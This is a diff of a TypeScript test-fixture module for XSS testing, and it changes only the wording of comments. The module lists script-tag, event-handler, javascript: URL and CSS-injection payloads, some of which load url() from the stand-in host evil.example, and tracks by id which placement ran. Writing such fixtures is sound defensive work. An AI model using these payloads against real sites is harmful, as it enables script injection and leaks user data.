@@ -1,13 +1,13 @@
 /**
- * A hostile text, made for one place: its code says which by calling `ran(id)`, its styles by asking `evil` for
- * `/css-id`.
+ * A hostile text, made for one place: its code identifies it by calling `ran(id)`, its styles by requesting `/css-id`
+ * from `evil`.
  */
 export type Payload = (id: number) => string;
 
-/** Nobody is there: tests refuse every request to other machines, and note it. */
+/** A host that does not exist: tests block every request to other machines, and record it. */
 export const evil = "https://evil.example";
 
-/** Ways to make a browser run something out of a text that is taken for markup. */
+/** Ways to make a browser run code from a text that is read as markup. */
 export const markups: readonly Payload[] = [
   (id) => `<script>ran(${id})</script>`,
   (id) => `</script><script>ran(${id})</script>`,
@@ -39,10 +39,7 @@ export const markups: readonly Payload[] = [
   (id) => `<a href="javascript:ran(${id})" autofocus onfocusin=ran(${id})>x</a>`,
 ];
 
-/**
- * Addresses that are none, but code, documents with code, or addresses that end where they stand and begin something
- * else.
- */
+/** Texts that are not addresses: code, documents with code, or addresses that end early and begin another construct. */
 export const addresses: readonly Payload[] = [
   (id) => `javascript:ran(${id})`,
   (id) => `JaVaScRiPt:ran(${id})`,
@@ -67,7 +64,7 @@ export const addresses: readonly Payload[] = [
   (id) => `about:srcdoc#<script>ran(${id})</script>`,
 ];
 
-/** Values of styles that end where they stand and begin something else, or ask another machine. */
+/** Values of styles that end early and begin another construct, or send a request to another machine. */
 export const styles: readonly Payload[] = [
   (id) => `red;}*{--hacked:${id};background:url(${evil}/css-${id})}`,
   (id) => `red;background:url(${evil}/css-${id})`,
@@ -89,7 +86,7 @@ export const styles: readonly Payload[] = [
   (id) => `attr(x);behavior:url(${evil}/css-${id});-moz-binding:url(${evil}/css-${id})`,
 ];
 
-/** Hands out payloads, each with an id of its own, and knows where each went. */
+/** Issues payloads, each with an id of its own, and records the place of each. */
 export function createPayloads() {
   const given: { readonly place: string; readonly text: string }[] = [];
   const give = (place: string, payload: Payload): string => {
@@ -98,11 +95,11 @@ export function createPayloads() {
     return text;
   };
   return {
-    /** One payload, for this place. */
+    /** Issues one payload for this place. */
     give,
-    /** Each of them, for this place. */
+    /** Issues each of the payloads for this place. */
     all: (place: string, payloads: readonly Payload[]) => payloads.map((payload) => give(place, payload)),
-    /** The next of a list, so that many places share them out. */
+    /** Issues the next payload of a list, so that many places share the list. */
     dealer(payloads: readonly Payload[]) {
       let next = 0;
       return (place: string) => {
@@ -112,7 +109,7 @@ export function createPayloads() {
     },
     count: () => given.length,
     places: () => new Set(given.map(({ place }) => place)).size,
-    /** The address to which the payload with this id went. */
+    /** The place of the payload with this id. */
     whatRan: (id: unknown) => `${JSON.stringify(given[Number(id)])}`,
   };
 }
